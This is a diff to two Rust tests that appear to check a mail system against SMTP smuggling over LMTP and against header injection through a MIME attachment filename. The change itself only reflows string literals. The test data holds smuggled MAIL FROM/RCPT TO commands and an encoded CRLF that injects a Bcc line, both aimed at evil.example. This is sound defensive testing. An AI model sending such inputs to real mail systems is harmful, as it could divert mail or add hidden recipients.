@@ -90,7 +90,8 @@ fn t42_nothing_is_smuggled_out() {
     let word = canary("SMUGGLED");
     // Bare CR and LF cannot travel by LMTP as they are, but they can inside base64.
     let body = format!(
-        "{word} start\n.\nMAIL FROM:<x@evil.example>\nRCPT TO:<victim@evil.example>\nDATA\n\n{word}\r.\r\n.\r{}\n",
+        "{word} start\n.\nMAIL FROM:<x@evil.example>\nRCPT TO:<victim@evil.example>\nDATA\n\n{word}\r.\r\n\
+         .\r{}\n",
         "x".repeat(3000)
     );
     let encoded = data_encoding::BASE64_MIME.encode(body.as_bytes());
@@ -191,7 +192,8 @@ fn t43_no_field_is_injected() {
     let word = canary("ATTACHED");
     let text = format!(
         "--b\r\nContent-Type: text/plain\r\n\r\n{word}\r\n--b\r\nContent-Type: application/x\r\n\
-         Content-Disposition: attachment; filename*=utf-8''a%0D%0ABcc:%20victim@evil.example.txt\r\n\r\nx\r\n--b--"
+         Content-Disposition: attachment; filename*=utf-8''a%0D%0ABcc:%20victim@evil.example.txt\r\n\r\nx\r\n\
+         --b--"
     );
     world.send(
         &Draft::new(&who, &world.desk, "files", &text).with("Content-Type", "multipart/mixed; boundary=b"),
